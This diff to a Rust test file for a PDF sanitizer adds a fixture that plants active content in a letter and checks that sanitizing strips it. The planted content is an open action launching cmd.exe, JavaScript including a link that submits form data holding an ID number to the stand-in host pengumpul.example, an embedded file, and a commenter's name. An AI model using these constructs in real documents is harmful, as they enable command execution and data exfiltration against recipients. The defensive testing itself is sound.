@@ -1,5 +1,6 @@
-//! PDF documents lose their author, creator, producer, XMP and earlier revisions, and keep
-//! their pages.
+//! PDF documents lose their author, creator, producer, XMP and earlier revisions, their
+//! JavaScript, actions, embedded files, form data and annotations' authors, and keep their
+//! pages.
 
 use crate::fixtures::*;
 use aduan_attachments::{Format, sanitize};
@@ -129,6 +130,135 @@ fn an_author_left_in_an_earlier_revision_is_gone_too() {
     let clean = sanitize(&original, Format::Pdf).unwrap();
     assert!(!contains(&clean, NAME) && !contains(&clean, "Editor"));
     assert_eq!(Document::load_mem(&clean).unwrap().get_pages().len(), 1);
+}
+
+const NIK: &str = "3578014507900001";
+const ATTACHED: &str = "RAHASIA-LAMPIRAN-ASLI";
+
+/// [`letter`] with what a document can run, embed or collect: JavaScript on opening, in the
+/// name tree and behind a link, an action on closing, an embedded file (in the name tree and
+/// as a file attachment annotation), a form field holding a NIK, and a comment whose author
+/// is named.
+fn active_letter() -> Vec<u8> {
+    let mut doc = Document::load_mem(&letter()).unwrap();
+    let page_id = *doc.get_pages().get(&1).unwrap();
+    let script = doc.add_object(dictionary! {
+        "S" => "JavaScript", "JS" => Object::string_literal("app.alert('halo')"),
+    });
+    let embedded = doc.add_object(Stream::new(
+        dictionary! { "Type" => "EmbeddedFile" },
+        ATTACHED.as_bytes().to_vec(),
+    ));
+    let filespec = doc.add_object(dictionary! {
+        "Type" => "Filespec", "F" => Object::string_literal("bukti.txt"),
+        "EF" => dictionary! { "F" => embedded },
+    });
+    let rect = || vec![10.into(), 10.into(), 50.into(), 50.into()];
+    let attachment = doc.add_object(dictionary! {
+        "Type" => "Annot", "Subtype" => "FileAttachment", "Rect" => rect(), "FS" => filespec,
+        "T" => Object::string_literal(NAME),
+    });
+    let comment = doc.add_object(dictionary! {
+        "Type" => "Annot", "Subtype" => "Text", "Rect" => rect(),
+        "Contents" => Object::string_literal("Lubangnya sedalam lutut"),
+        "T" => Object::string_literal(NAME),
+        "CreationDate" => Object::string_literal("D:20260301120000+07'00'"),
+    });
+    let field = doc.add_object(dictionary! {
+        "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "Rect" => rect(),
+        "T" => Object::string_literal("nik"), "V" => Object::string_literal(NIK),
+    });
+    let link = dictionary! {
+        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
+        "A" => dictionary! {
+            "S" => "JavaScript",
+            "JS" => Object::string_literal("this.submitForm('http://pengumpul.example')"),
+        },
+    };
+    let annots = vec![attachment.into(), comment.into(), field.into(), link.into()];
+    doc.get_object_mut(page_id)
+        .unwrap()
+        .as_dict_mut()
+        .unwrap()
+        .set("Annots", annots);
+    let catalog = doc.catalog_mut().unwrap();
+    catalog.set(
+        "OpenAction",
+        dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") },
+    );
+    catalog.set("AA", dictionary! { "WC" => script });
+    catalog.set("AcroForm", dictionary! { "Fields" => vec![field.into()] });
+    catalog.set(
+        "Names",
+        dictionary! {
+            "JavaScript" => dictionary! {
+                "Names" => vec![Object::string_literal("mulai"), script.into()],
+            },
+            "EmbeddedFiles" => dictionary! {
+                "Names" => vec![Object::string_literal("bukti"), filespec.into()],
+            },
+        },
+    );
+    let mut out = Vec::new();
+    doc.save_to(&mut out).unwrap();
+    out
+}
+
+#[test]
+fn a_pdf_loses_its_scripts_actions_embedded_files_form_data_and_commenters() {
+    let original = active_letter();
+    let planted = [
+        NAME,
+        NIK,
+        ATTACHED,
+        "app.alert",
+        "submitForm",
+        "cmd.exe",
+        "/JavaScript",
+        "/EmbeddedFile",
+        "/AcroForm",
+        "/OpenAction",
+        "/FileAttachment",
+        "CreationDate",
+    ];
+    for p in planted {
+        assert!(contains(&original, p), "{p} is planted");
+    }
+    let clean = sanitize(&original, Format::Pdf).unwrap();
+    for p in planted {
+        assert!(!contains(&clean, p), "{p} is still in the copy");
+    }
+    let doc = Document::load_mem(&clean).unwrap();
+    assert!(doc.extract_text(&[1]).unwrap().contains("Jalan berlubang"));
+    let page = doc
+        .get_dictionary(*doc.get_pages().get(&1).unwrap())
+        .unwrap();
+    let annots = page.get(b"Annots").unwrap().as_array().unwrap();
+    assert_eq!(annots.len(), 3, "the comment, the field and the link stay");
+    assert!(
+        contains(&clean, "Lubangnya sedalam lutut"),
+        "the comment's words stay, without its author"
+    );
+}
+
+#[test]
+fn a_form_with_no_page_of_its_own_is_refused() {
+    let mut doc = Document::load_mem(&letter()).unwrap();
+    let pages = doc
+        .catalog()
+        .unwrap()
+        .get(b"Pages")
+        .unwrap()
+        .as_reference()
+        .unwrap();
+    let pages = doc.get_object_mut(pages).unwrap().as_dict_mut().unwrap();
+    pages.set("Kids", Vec::<Object>::new());
+    pages.set("Count", 0);
+    let mut bytes = Vec::new();
+    doc.save_to(&mut bytes).unwrap();
+    let e = sanitize(&bytes, Format::Pdf).unwrap_err();
+    assert_eq!(e.code(), "attachment_corrupt");
+    assert!(e.to_string().contains("no page"), "{e}");
 }
 
 #[test]
